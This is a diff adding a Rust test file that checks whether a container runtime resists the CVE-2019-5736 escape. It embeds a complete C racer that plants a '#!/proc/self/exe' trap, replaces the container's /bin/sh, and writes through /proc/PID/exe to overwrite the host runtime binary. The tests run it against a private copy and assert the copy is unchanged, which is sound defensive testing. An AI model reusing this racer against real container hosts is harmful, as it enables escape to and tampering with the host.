@@ -1,0 +1,144 @@
+//! CVE-2019-5736, as the attack on doca did it: the container makes an executable whose
+//! interpreter is `#!/proc/self/exe`, so the next doca-runc process that execs it inside the
+//! container runs doca-runc again, in the container's pid namespace and dumpable. A racer in
+//! the container holds `/proc/PID/exe` of that process and, once it exits, reopens the link
+//! for writing: on an unprotected runtime that is the host's doca-runc. Two triggers: the
+//! user's `doca exec`, and (no user action at all) the container's own health check, whose
+//! `/bin/sh` the container replaced. The runtime the container attacks is a private copy
+//! (`--runtime PATH`), so a failing test cannot break the other tests' runtime.
+
+use super::common::{runc, sha256_file, Env};
+use std::path::{Path, PathBuf};
+
+const RACER: &str = r##"
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+/* racer [health]: with "health", first replace /bin/sh by the trap. Then wait for a process
+   whose executable is doca-runc, hold its /proc/PID/exe, and write through it once it is no
+   longer busy. Prints one verdict line. */
+int main(int argc, char **argv) {
+    if (argc > 1 && strcmp(argv[1], "health") == 0) {
+        unlink("/bin/sh");
+        int f = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
+        if (f < 0 || write(f, "#!/proc/self/exe\n", 17) != 17) { printf("trap: %s\n", strerror(errno)); return 1; }
+        close(f);
+    }
+    printf("ready\n");
+    fflush(stdout);
+    pid_t self = getpid();
+    time_t end = time(NULL) + 90;
+    while (time(NULL) < end) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == self) continue;
+            char p[64], link[4096];
+            snprintf(p, sizeof p, "/proc/%d/exe", pid);
+            ssize_t n = readlink(p, link, sizeof link - 1);
+            if (n < 0) continue;
+            link[n] = 0;
+            if (!strstr(link, "doca-runc")) continue;
+            int fd = open(p, O_PATH);
+            if (fd < 0) continue;
+            printf("caught pid %d running %s\n", pid, link);
+            fflush(stdout);
+            char fdp[64];
+            snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
+            for (int i = 0; i < 10000; i++) {
+                int w = open(fdp, O_WRONLY | O_TRUNC);
+                if (w >= 0) {
+                    const char payload[] = "#!/bin/sh\necho overwritten by a container\n";
+                    if (write(w, payload, sizeof payload - 1) > 0) printf("WROTE the runtime binary\n");
+                    else printf("verdict: write refused: %s\n", strerror(errno));
+                    return 0;
+                }
+                if (errno != ETXTBSY) { printf("verdict: open for writing refused: %s\n", strerror(errno)); return 0; }
+                usleep(1000);
+            }
+            printf("verdict: still busy after 10 s\n");
+            return 0;
+        }
+        if (d) closedir(d);
+    }
+    printf("verdict: nothing caught\n");
+    return 0;
+}
+"##;
+
+/// The host's C library at the paths a glibc image has them: a dynamically linked doca-runc
+/// (the cargo build) runs inside the container only when the image has a loader and libc,
+/// as every Debian or Ubuntu image has. The installed, static doca-runc needs none.
+const HOST_LIBS: [&str; 4] = ["-v", "/usr/lib64:/lib64:ro", "-v", "/usr/lib/x86_64-linux-gnu:/lib/x86_64-linux-gnu:ro"];
+
+/// A private copy of doca-runc for the container to attack, and its digest.
+fn runtime_copy(e: &Env) -> (PathBuf, String) {
+    let dir = e.t.path("runtime");
+    std::fs::create_dir_all(&dir).unwrap();
+    let copy = dir.join("doca-runc");
+    std::fs::copy(runc(), &copy).unwrap();
+    let digest = sha256_file(&copy);
+    (copy, digest)
+}
+
+fn verdict(logs: &str) -> bool {
+    logs.contains("verdict:") || logs.contains("WROTE")
+}
+
+fn assert_untouched(logs: &str, runtime: &Path, digest: &str) {
+    assert!(logs.contains("caught pid"), "the racer never caught a doca-runc process, so the attack was not performed:\n{logs}");
+    assert!(!logs.contains("WROTE"), "the container wrote through /proc/PID/exe:\n{logs}");
+    assert_eq!(sha256_file(runtime), digest, "the runtime binary on the host changed:\n{logs}");
+}
+
+#[test]
+fn exec_of_a_proc_self_exe_trap_cannot_overwrite_the_runtime() {
+    doca_testkit::require_root!();
+    let e = Env::new();
+    let (runtime, digest) = runtime_copy(&e);
+    let tools = e.tools(&[("racer", &doca_testkit::c_program("racer", RACER))]);
+    let rt = runtime.to_str().unwrap();
+    let bind = format!("{}:/attack:ro", tools.display());
+    let mut args = vec!["-d", "--runtime", rt, "-v", &bind];
+    args.extend(HOST_LIBS);
+    args.extend(["busybox", "/attack/racer"]);
+    let id = e.run_ok(&args);
+    e.logs_until(&id, 10, |l| l.contains("ready"));
+    e.t.ok(&["exec", &id, "sh", "-c", "printf '#!/proc/self/exe\\n' > /bin/evil && chmod 755 /bin/evil"]);
+    for _ in 0..30 {
+        // The trap runs doca-runc with a path for a subcommand: it fails, as it should.
+        let _ = e.t.run(&["exec", &id, "/bin/evil"]);
+        if e.logs_until(&id, 1, |l| l.contains("caught")).contains("caught") {
+            break;
+        }
+    }
+    let logs = e.logs_until(&id, 20, verdict);
+    assert_untouched(&logs, &runtime, &digest);
+    e.t.ok(&["rm", "-f", &id]);
+}
+
+#[test]
+fn a_health_check_through_a_replaced_shell_cannot_overwrite_the_runtime() {
+    doca_testkit::require_root!();
+    let e = Env::new();
+    let (runtime, digest) = runtime_copy(&e);
+    let tools = e.tools(&[("racer", &doca_testkit::c_program("racer", RACER))]);
+    let rt = runtime.to_str().unwrap();
+    let bind = format!("{}:/attack:ro", tools.display());
+    let mut args = vec!["-d", "--runtime", rt, "--health-cmd", "true", "--health-interval", "200ms", "-v", &bind];
+    args.extend(HOST_LIBS);
+    args.extend(["busybox", "/attack/racer", "health"]);
+    let id = e.run_ok(&args);
+    let logs = e.logs_until(&id, 60, verdict);
+    assert_untouched(&logs, &runtime, &digest);
+    e.t.ok(&["rm", "-f", &id]);
+}
